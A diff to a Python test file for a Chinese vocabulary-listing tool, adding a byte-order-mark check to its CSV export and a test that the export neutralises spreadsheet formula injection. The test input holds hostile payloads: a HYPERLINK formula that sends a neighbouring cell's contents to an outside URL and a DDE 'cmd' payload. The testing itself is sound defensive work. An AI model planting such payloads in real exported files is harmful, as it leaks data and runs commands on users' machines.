@@ -81,12 +81,30 @@ def test_what_is_told_of_a_word(source: Path) -> None:
 
 
 def test_csv_and_table(source: Path) -> None:
-    rows = list(csv.DictReader(io.StringIO(langdu("words", str(source), "--format", "csv").stdout)))
+    printed = langdu("words", str(source), "--format", "csv").stdout
+    assert printed.startswith("\ufeffword,"), "Excel takes a file without the mark for one in the system's encoding"
+    rows = list(csv.DictReader(io.StringIO(printed.removeprefix("\ufeff"))))
     assert [row["word"] for row in rows] == [row["word"] for row in listed(str(source))]
     assert rows[3]["annotated"] == "yes"
     table = langdu("words", str(source)).stdout.splitlines()
     assert table[0].split() == ["word", "pinyin", "times", "HSK", "given", "sentence"]
     assert table[4].split() == ["还", "huán", "1", "1", "yes", "他还了三本书。"]
+
+
+def test_a_spreadsheet_gets_no_formulas(tmp_path: Path) -> None:
+    """The sentences of an article are somebody else's: =HYPERLINK(…) would send away what stands beside it."""
+    lines = [
+        '=HYPERLINK("http://x.org/"&A2,"春天")', "+1+cmd|' /C calc'!A0图书馆", "-1+银行", "@SUM(1)长城", "＝1+北京",
+        "＠孩子们",
+    ]  # fmt: skip
+    source = tmp_path / "a.txt"
+    source.write_text("。\n".join(lines), encoding="utf-8")
+    printed = langdu("words", str(source), "--format", "csv", "--keep-all").stdout.removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(printed)))
+    assert {row[5][1] for row in rows if row[5][0] == "'"} == set("=+-@＝＠")
+    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r＝＋－＠"))]
+    (tmp_path / "known.csv").write_text(printed, encoding="utf-8-sig")
+    assert listed(str(source), "--keep-all", "--known", str(tmp_path / "known.csv")) == []
 
 
 def test_known_words_are_left_out(source: Path, tmp_path: Path) -> None:
